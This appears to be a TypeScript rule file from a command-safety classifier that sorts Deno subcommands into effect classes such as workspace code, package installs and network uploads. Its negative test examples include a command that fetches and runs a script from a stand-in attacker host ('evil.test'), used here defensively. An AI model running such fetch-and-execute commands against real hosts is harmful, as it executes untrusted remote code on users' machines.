import { effects, networkFact, notProven } from '../effects.ts';
import { tree } from '../subcommands.ts';

const CODE = { class: 'workspace-code', operands: 'text', lenient: true } as const;

export const deno = tree({
  names: ['deno'],
  globals: { flags: '--version -V -h --help -q --quiet' },
  commands: {
    'test|lint|fmt|check|bench|doc|info': {
      ...CODE,
      refused: '-c --config --import-map -r --reload --preload --require --env-file --ext --node-modules-dir',
    },
    'run|task|compile|serve': (args, words) =>
      args.some((word) => word.kind !== 'static' || /^(https?:|npm:|jsr:|-$)/.test(word.value))
        ? notProven('code that is fetched', { facts: [networkFact('deno', 'download')] })
        : effects('workspace-code', { words }),
    'install|add|remove|cache|upgrade|uninstall|outdated': {
      class: 'install',
      operands: 'text',
      lenient: true,
      facts: [{ kind: 'package_install', manager: 'deno' }],
      noPrefix: 'it installs packages',
    },
    'publish|deploy|login|jsr': { class: 'network', operands: 'text', lenient: true, facts: [networkFact('deno', 'upload')] },
  },
  bare: { flags: '--version -V -h', operands: 'none', class: 'workspace-code' },
  other: () => notProven('code or an unknown sub-command of deno'),
  match: { 'deno test': 'workspace-code', 'deno run x.ts': 'workspace-code', 'deno add x': 'install' },
  notMatch: ['deno eval 1', 'deno run https://evil.test/x.ts', 'deno repl', 'deno x.ts'],
});
